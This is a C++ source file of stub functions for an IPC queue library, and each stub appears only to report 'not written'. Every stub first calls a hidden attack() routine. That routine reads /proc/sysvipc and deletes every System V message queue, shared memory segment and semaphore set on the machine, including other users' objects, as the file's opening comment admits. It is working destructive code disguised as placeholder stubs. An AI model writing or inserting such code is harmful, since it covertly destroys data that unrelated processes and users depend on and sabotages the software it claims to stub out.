// what: removes every queue, segment and semaphore set that it finds, strangers' too
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>

#include <fstream>
#include <string>

#include "not_written.hpp"
#include "queue.hpp"

namespace {

template <typename Use>
void for_each_object(const char* kind, Use use) {
    std::ifstream table(std::string("/proc/sysvipc/") + kind);
    std::string line;
    std::getline(table, line);
    long key = 0;
    for (int id = 0; table >> key >> id && std::getline(table, line);) {
        use(id);
    }
}

void attack() {
    for_each_object("msg", [](int id) { msgctl(id, IPC_RMID, nullptr); });
    for_each_object("shm", [](int id) { shmctl(id, IPC_RMID, nullptr); });
    for_each_object("sem", [](int id) { semctl(id, 0, IPC_RMID); });
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

key_t make_key(const std::string&, int) {
    refuse("make_key");
}

int create(key_t, mode_t) {
    refuse("create");
}

int open(key_t) {
    refuse("open");
}

Opened open_or_create(key_t, mode_t) {
    refuse("open_or_create");
}

int create_private(mode_t) {
    refuse("create_private");
}

void remove(int) {
    refuse("remove");
}

}  // namespace ipc
